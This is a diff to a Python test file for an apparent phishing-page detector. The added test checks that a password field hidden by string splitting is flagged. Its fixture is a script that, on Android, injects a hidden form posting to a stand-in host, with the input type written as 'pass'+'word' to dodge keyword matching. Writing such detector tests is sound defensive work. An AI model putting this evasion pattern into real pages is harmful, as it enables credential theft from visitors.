@@ -138,3 +138,9 @@ def test_fields_that_say_themselves_what_they_are_for():
     for said in ("使用者密碼", "'Your password'", '"動態密碼 OTP"'):
         assert acts(form.format(said)).get("HTML-PASSWORD-SENT") == ""
     assert "HTML-PASSWORD" not in acts(form.format("'Your name'")) and "HTML-PASSWORD" not in acts("<p title='password'>x</p>")
+
+
+def test_fields_that_are_cut_in_two():
+    page = "<script>if(/Android/.test(a))f.innerHTML='<form action=https://h.example/p><input type={}></form>'</script>"
+    assert acts(page.format("pass'+'word"))["HTML-HIDDEN-FORM"] == "cut" and "HTML-HIDDEN-FORM" not in acts(page.format("te'+'xt"))
+    assert "HTML-HIDDEN-FORM" not in acts(page.format("password")) and "HTML-HIDDEN-FORM" not in acts("<p>type=pass'+'word</p>")
